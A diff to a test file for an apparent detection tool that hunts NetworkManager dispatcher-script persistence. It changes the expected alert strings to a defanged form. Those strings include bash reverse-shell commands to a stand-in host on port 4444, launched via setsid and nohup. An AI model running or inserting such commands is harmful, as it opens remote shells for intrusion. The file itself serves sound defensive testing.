@@ -13,13 +13,14 @@ describe('npm run demo', () => {
     assert.deepEqual(messages(night1!), ['[nm-dispatcher-hunt] baseline initialised: 8 entries']);
     assert.deepEqual(messages(night2!), ['[nm-dispatcher-hunt] 6 new findings (dispatcher-child-process, dispatcher-script-write)']);
     const alerted = [...night2!.split('[slack]')[0]!.matchAll(/^ {2}(file\.path|process\.command_line): (.*)$/gm)].map((m) => m[2]).sort();
+    // As the email shows them: defanged, so that no mail client links the attacker's host or script name.
     assert.deepEqual(alerted, [
-      '/bin/bash /etc/NetworkManager/dispatcher.d/panix-dispatcher.sh eth0 up',
-      '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh',
-      '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh',
-      "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
-      "nohup setsid bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
-      "setsid bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
+      '/bin/bash /etc/NetworkManager/dispatcher.d/panix-dispatcher[.]sh eth0 up',
+      '/etc/NetworkManager/dispatcher.d/panix-dispatcher[.]sh',
+      '/etc/NetworkManager/dispatcher.d/panix-dispatcher[.]sh',
+      "bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
+      "nohup setsid bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
+      "setsid bash -c 'bash -i >& /dev/tcp/203[.]0[.]113[.]66/4444 0>&1'",
     ]);
     assert.doesNotMatch(night2!, /99-vpn-routes.*\n\s+why new/, 'nothing the fleet already had is alerted');
     assert.match(out, /night 2 alerted 6 new findings/);
